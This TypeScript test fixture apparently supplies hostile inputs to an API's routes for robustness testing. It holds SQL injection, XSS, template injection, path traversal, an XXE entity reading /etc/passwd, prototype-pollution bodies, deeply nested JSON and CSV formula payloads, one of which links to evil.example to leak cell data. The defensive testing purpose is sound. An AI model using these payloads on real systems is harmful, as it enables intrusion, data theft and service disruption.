// A corpus of hostile input: text, numbers, whole bodies and CSV that a careless or malicious client
// sends. The hostile.* tests send it to every route of the OpenAPI document.

/** A JSON token to splice into a body as is (JSON.stringify cannot write NaN, 1e309 or deep nesting). */
export class Raw {
  /** invalidJson: the token makes the whole body something a JSON parser refuses (NaN, Infinity, a __proto__ key). */
  constructor(readonly json: string, readonly label: string, readonly invalidJson = false) {}
}

export const DEEP = 50_000;
export const deepArray = (depth = DEEP) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
export const deepObject = (depth = DEEP) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;

/** Text that tries SQL, script and formula injection, breaks encodings and dates, or is just odd. */
export const HOSTILE_TEXT: readonly string[] = [
  "' OR '1'='1",
  "'; DROP TABLE region; --",
  "1); SELECT pg_sleep(10); --",
  '" OR ""="',
  '$1',
  '%',
  '_',
  '\\',
  '\\x00',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '=cmd|\' /C calc\'!A0',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e309',
  '-1e309',
  '99999999999999999999999999',
  '0x10',
  '-0',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '__proto__',
  'constructor',
  '2026-02-30',
  '2026-02-30T10:00:00Z',
  '2026-03-01T10:00:00+25:00',
  '2026-03-01T10:00:00+16:00',
  '2026-03-01T10:00:00-18:59',
  '0000-00-00T00:00:00Z',
  '9999-12-31T23:59:59-18:00',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfffy',
  '\ufeffbom',
  '\u202egnp.exe',
  'é',
  'e\u0301',
  '😀',
  '../../etc/passwd',
  '%00',
  '%ff',
  '',
  ' ',
  '\r\n',
  'x'.repeat(10_000),
];

/** Values for a JSON field: every hostile text, numbers at and past the edges, raw tokens and deep nesting. */
export const HOSTILE_VALUES: readonly unknown[] = [
  ...HOSTILE_TEXT,
  'y'.repeat(300_000),
  0,
  -1,
  -0,
  1.5,
  1e308,
  -1e308,
  5e-324,
  2 ** 53 + 1,
  1e21,
  true,
  false,
  null,
  [],
  {},
  [1, 2, 3],
  { $gt: '' },
  new Raw('NaN', 'NaN token', true),
  new Raw('Infinity', 'Infinity token', true),
  new Raw('-Infinity', '-Infinity token', true),
  new Raw('1e309', '1e309 (parses to Infinity)'),
  new Raw('-1e309', '-1e309'),
  new Raw('123456789012345678901234567890', 'a 30-digit integer'),
  new Raw(deepArray(), `arrays nested ${DEEP} deep`),
  new Raw(deepObject(), `objects nested ${DEEP} deep`),
  new Raw('{"__proto__":{"polluted":true}}', '__proto__ key', true),
];

/** JSON text with Raw values spliced in. */
export function jsonWith(value: unknown): string {
  const raws: Raw[] = [];
  const text = JSON.stringify(value, (_key, inner: unknown) => {
    if (inner instanceof Raw) {
      raws.push(inner);
      return `\u0001raw${raws.length - 1}\u0001`;
    }
    return inner;
  });
  return text.replace(/"\\u0001raw(\d+)\\u0001"/g, (_match, i: string) => raws[Number(i)]!.json);
}

export const describeValue = (value: unknown): string => {
  if (value instanceof Raw) return value.label;
  const text = JSON.stringify(value) ?? String(value);
  return text.length > 40 ? `${text.slice(0, 37)}… (${text.length} chars)` : text;
};

/** Whole bodies that are not what any route takes, each with the content type it is sent as (default: the route's). */
export function hostileBodies(limitBytes: number): Array<{ name: string; payload: string | Buffer; contentType?: string }> {
  return [
    { name: 'malformed JSON', payload: '[{"eventId": ' },
    { name: 'trailing comma', payload: '[1,]' },
    { name: 'single quotes', payload: "[{'a': 1}]" },
    { name: 'NaN token', payload: '[{"value": NaN}]' },
    { name: 'Infinity token', payload: '{"value": Infinity}' },
    { name: '1e309', payload: '[1e309]' },
    { name: 'empty', payload: '' },
    { name: 'whitespace', payload: '   \n ' },
    { name: 'null', payload: 'null' },
    { name: 'a number', payload: '42' },
    { name: 'a string', payload: '"x"' },
    { name: 'true', payload: 'true' },
    { name: 'an object', payload: '{}' },
    { name: 'an empty array', payload: '[]' },
    { name: 'junk items', payload: '[1,"a",null,true,[],{}]' },
    { name: `arrays nested ${DEEP} deep`, payload: deepArray() },
    { name: `objects nested ${DEEP} deep`, payload: deepObject() },
    { name: 'an array holding deep nesting', payload: `[${deepArray()}]` },
    { name: 'invalid UTF-8', payload: Buffer.from([0x5b, 0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc3, 0x28, 0x22, 0x7d, 0x5d]) },
    { name: 'UTF-16', payload: Buffer.from('[{"a":1}]', 'utf16le') },
    { name: 'a byte-order mark', payload: '\ufeff[{"a":1}]' },
    { name: '__proto__', payload: '{"__proto__":{"polluted":true}}' },
    { name: '__proto__ in an item', payload: '[{"__proto__":{"polluted":true}}]' },
    { name: 'constructor.prototype', payload: '[{"constructor":{"prototype":{"polluted":true}}}]' },
    { name: 'duplicate keys', payload: '{"name":"a","name":"b"}' },
    { name: 'past the body limit', payload: `["${'x'.repeat(limitBytes + 10)}"]` },
    { name: 'NUL bytes', payload: '\u0000\u0000\u0000' },
    { name: 'XML', payload: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', contentType: 'application/xml' },
    { name: 'a form', payload: 'a=1&b=2', contentType: 'application/x-www-form-urlencoded' },
    { name: 'JSON in another charset', payload: '[{"a":1}]', contentType: 'application/json; charset=utf-16' },
    { name: 'no content type', payload: '[{"a":1}]', contentType: '' },
    { name: 'multipart', payload: '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x--', contentType: 'multipart/form-data; boundary=x' },
  ];
}

/** CSV bodies that break quoting, encodings, limits or try formula and prototype tricks. */
export function hostileCsv(header: string, limitBytes: number): Array<{ name: string; payload: string | Buffer }> {
  const columns = header.split(',').length;
  const row = (cell: string) => Array.from({ length: columns }, () => cell).join(',');
  return [
    { name: 'header only', payload: `${header}\n` },
    { name: 'empty', payload: '' },
    { name: 'unbalanced quote', payload: `${header}\n"${row('x')}\n` },
    { name: 'too many cells', payload: `${header}\n${row('x')},extra,cells\n` },
    { name: 'too few cells', payload: `${header}\nx\n` },
    { name: 'formula cells', payload: `${header}\n${row('=HYPERLINK("https://evil.example","x")')}\n${row('@SUM(A1)')}\n${row('+1')}\n${row('-1+2')}\n` },
    { name: 'NUL and control bytes', payload: `${header}\n${row('a\u0000b')}\n${row('\u0007\u001b[31m')}\n` },
    { name: 'invalid UTF-8', payload: Buffer.concat([Buffer.from(`${header}\n`), Buffer.from([0xff, 0xfe, 0x2c, 0xc3, 0x28, 0x0a])]) },
    { name: 'a byte-order mark', payload: `\ufeff${header}\n${row('x')}\n` },
    { name: '__proto__ columns', payload: `__proto__,constructor,prototype\n{"polluted":true},x,y\n` },
    { name: 'duplicate columns', payload: `${header},${header}\n${row('x')},${row('y')}\n` },
    { name: 'a cell past the row limit', payload: `${header}\n"${'x'.repeat(Math.min(limitBytes, 2 * 1024 * 1024))}"${',x'.repeat(columns - 1)}\n` },
    { name: 'CR-only line ends', payload: `${header}\r${row('x')}\r` },
    { name: 'SQL in every cell', payload: `${header}\n${row("x'); DROP TABLE outlet; --")}\n` },
    { name: 'NaN and Infinity', payload: `${header}\n${row('NaN')}\n${row('Infinity')}\n${row('1e309')}\n` },
    { name: 'impossible dates', payload: `${header}\n${row('2026-02-30T00:00:00Z')}\n${row('2026-03-01T00:00:00+25:00')}\n` },
  ];
}
